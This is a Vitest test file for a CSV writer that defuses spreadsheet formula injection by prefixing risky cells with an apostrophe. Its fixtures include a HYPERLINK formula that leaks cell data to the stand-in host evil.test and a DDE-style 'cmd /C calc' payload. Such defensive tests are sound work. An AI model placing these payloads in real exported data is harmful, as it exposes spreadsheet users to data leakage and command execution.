import { afterEach, describe, expect, it, vi } from 'vitest';
import { csvCell, csvText, neutralised } from '../../src/components/tableExport/csv';
import * as files from '../../src/components/useFileDownload';
import { exportCsv } from '../../src/resources/analytics/exportTable';

const HYPERLINK = '=HYPERLINK("http://evil.test/?"&A2,"Open")';

describe('the CSV writer (issue 23: formulas in CSV exports)', () => {
  afterEach(() => vi.restoreAllMocks());

  it('puts an apostrophe before a cell a spreadsheet would read as a formula (OWASP)', () => {
    for (const text of ['=1+1', '+cmd', '-2+3+cmd|" /C calc"!A0', '@SUM(A1:A2)', '\t=1', '\r=1', '\n=1', '+7 (913) 000-00-01', '-', '+']) {
      expect(neutralised(text)).toBe(`'${text}`);
    }
    expect(csvCell(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")"`);
  });

  it('leaves plain numbers, signed ones too, and ordinary texts as they are', () => {
    for (const text of ['-5', '-90.00', '+7', '0', '1200.50', 'Юрист онлайн', 'a=b', "it's", '']) expect(neutralised(text)).toBe(text);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
  });

  it("quotes a cell holding a separator, a quote or a line break, so no reader splits a formula into a cell of its own", () => {
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell('a,=1+1')).toBe('"a,=1+1"');
    expect(csvCell('a\t=1+1')).toBe('"a\t=1+1"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });

  it('writes a BOM, cells separated by ";" and CRLF lines', () => {
    expect(csvText([['Имя', 'Сумма'], [HYPERLINK, -5]])).toBe(`\uFEFFИмя;Сумма\r\n"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")";-5\r\n`);
  });

  it('writes the analytics tables through it', async () => {
    const saved: { name: string; text: Promise<string> }[] = [];
    vi.spyOn(files, 'saveBlob').mockImplementation((blob, name) => void saved.push({ name, text: blob.text() }));
    exportCsv({ name: 'analytics_agents', columns: ['Агент', 'Сумма'], rows: [['@evil', -1400.5], ['Агент Один', 2]] });
    expect(saved[0]!.name).toBe('analytics_agents.csv');
    expect(await saved[0]!.text).toBe("\uFEFFАгент;Сумма\r\n'@evil;-1400.5\r\nАгент Один;2\r\n");
  });
});
